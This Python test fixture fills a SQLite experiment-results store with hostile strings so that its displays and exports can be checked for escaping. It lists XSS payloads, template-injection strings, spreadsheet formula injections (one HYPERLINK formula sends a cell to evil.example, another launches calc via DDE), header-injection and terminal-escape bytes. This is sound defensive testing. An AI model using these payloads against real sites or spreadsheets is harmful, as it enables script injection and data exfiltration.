"""A store with results in which every text that a person or a machine can set is hostile."""
import json
import sqlite3
from itertools import count
from pathlib import Path

SCRIPTS = ["<img src=x onerror=alert(1)>", "<script>alert(2)</script>", "\"'><svg onload=alert(3)>", "javascript:alert(4)",
           "</title></textarea></style></script><iframe srcdoc='<script>parent.alert(5)</script>'></iframe>",
           "{{constructor.constructor('alert(6)')()}}", "<a href='javascript:alert(7)' id=main name=main>x</a>",
           "<link rel=stylesheet href=//evil.example/x><base href=//evil.example/>", "__proto__"]
FORMULAS = ["=HYPERLINK(\"http://evil.example?\"&A1)", "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "\t=1", "\r=1", "=1\r\n=2",
            "\"=1", "=\"x,=1"]
# In one text, so that each place gets all: what is not UTF-8, header lines, what terminals obey, line separators, NUL.
BYTES = [b"\xff\xfe\xc0\xaf\xed\xa0\x80\xf0\x9f a\r\nSet-Cookie: b=c\r\n\r\n<script> \x1b[2J\x1b]0;x\x07\x7f"
         + "\x9b2J\x9d0;x\u2028\u2029\u202e\ufeff".encode() + b"\\\"\\u0000 \x00"]

# Columns with words of our own: ids, states, files, and texts that are read back as something else than a text. Every
# other column of type TEXT is made hostile, those of schemas to come too.
OURS = {
    "sweeps": {"select_epoch", "select_metric", "seeds", "resolved", "activity"},
    "corpora": {"corpus"},
    "folds": {"fold", "file"},
    "test_parts": {"fold", "corpus", "truth"},
    "configurations": {"configuration", "settings"},
    "trial_settings": {"model", "train"},
    "trials": {"id", "configuration", "fold", "corpus", "state"},
    "attempts": {"outcome", "failure_kind"},
    "checkpoints": {"file", "sha256"},
    "epochs": {"split", "auxiliary_by_modality", "kinds"},
    "trial_results": {"weights_sha256", "profile"},
    "selected": {"rule", "metric"},
    "state_counts": {"state"},
    "annotations": {"kind", "target"},
}
OURS_IN_JSON = {"metric", "configuration"}


class Texts:
    """Hostile texts in turn, each with the name of its column and a number, so that none is another and all are found."""

    def __init__(self, payloads: list):
        self.payloads, self.numbers = payloads, count()

    def bare(self, where: str) -> bytes:
        number = next(self.numbers)
        payload = self.payloads[number % len(self.payloads)]
        return (payload if isinstance(payload, bytes) else payload.encode()) + f" {where} {number}".encode()

    def instead_of(self, value, where: str):
        """The same JSON with other strings. A text in JSON is UTF-8."""
        if isinstance(value, str):
            return self.bare(where).decode(errors="replace")
        if isinstance(value, list):
            return [self.instead_of(item, where) for item in value]
        if isinstance(value, dict):
            return {key: item if key in OURS_IN_JSON else self.instead_of(item, where) for key, item in value.items()}
        return value

    def text(self, old: str, where: str) -> bytes:
        try:
            parsed = json.loads(old)
        except ValueError:
            parsed = None
        return json.dumps(self.instead_of(parsed, where)).encode() if isinstance(parsed, (list, dict)) else self.bare(where)


def let_one_fail(database: sqlite3.Connection) -> None:
    """The last trial, so that a failure and its log are shown."""
    database.execute("UPDATE trials SET state = 'failed', message = 'x' WHERE trial = 6")
    database.execute("UPDATE attempts SET outcome = 'failed', failure_kind = 'signal', failure_code = 9, failure_message = 'x',"
                     " log_tail = 'x' WHERE trial = 6")
    for table in ("selected", "predictions", "trial_results"):
        database.execute(f"DELETE FROM {table} WHERE trial = 6")


def annotate(database: sqlite3.Connection) -> None:
    """The sweep, and the last trial."""
    database.execute("INSERT INTO annotations VALUES ('sweep', '1', 'x', 'x', 1)")
    database.execute("INSERT INTO annotations SELECT 'trial', id, 'x', 'x', 1 FROM trials WHERE trial = 6")


def fill(store: Path, payloads: list) -> set[str]:
    """Changes the store at `store`; the columns that were changed, as "table.column"."""
    texts, filled = Texts(payloads), set()
    with sqlite3.connect(store / "mer.db") as database:
        database.text_factory = bytes
        database.execute("PRAGMA foreign_keys = OFF")
        let_one_fail(database)
        annotate(database)
        database.execute("UPDATE sweeps SET published = ?", [json.dumps(
            [{"label": "x", "metric": metric, "value": 0.5, "source": "x"} for metric in ("wa", "ua", "macro_f1")])])
        database.execute("UPDATE attempts SET refused_checkpoints = '[\"x\"]'")
        for (table,) in database.execute("SELECT name FROM sqlite_schema WHERE type = 'table'").fetchall():
            filled |= fill_table(database, table.decode(), texts)
    database.close()
    return filled


def fill_table(database: sqlite3.Connection, table: str, texts: Texts) -> set[str]:
    columns = [(name.decode(), kind, key) for _, name, kind, _, _, key in database.execute(f"PRAGMA table_info({table})")]
    hostile = [name for name, kind, _ in columns if kind == b"TEXT" and name not in OURS.get(table, ())]
    keys = [name for name, _, key in columns if key] or ["rowid"]
    for column in hostile:
        rows = database.execute(f"SELECT {column}, {', '.join(keys)} FROM {table} WHERE {column} IS NOT NULL").fetchall()
        for old, *key in rows:
            new = texts.text(old.decode(), f"{table}.{column}")
            key = [value.decode() if isinstance(value, bytes) else value for value in key]
            database.execute(f"UPDATE {table} SET {column} = CAST(? AS TEXT) WHERE ({', '.join(keys)}) = ({', '.join('?' * len(keys))})",
                             [new, *key])
    return {f"{table}.{column}" for column in hostile}
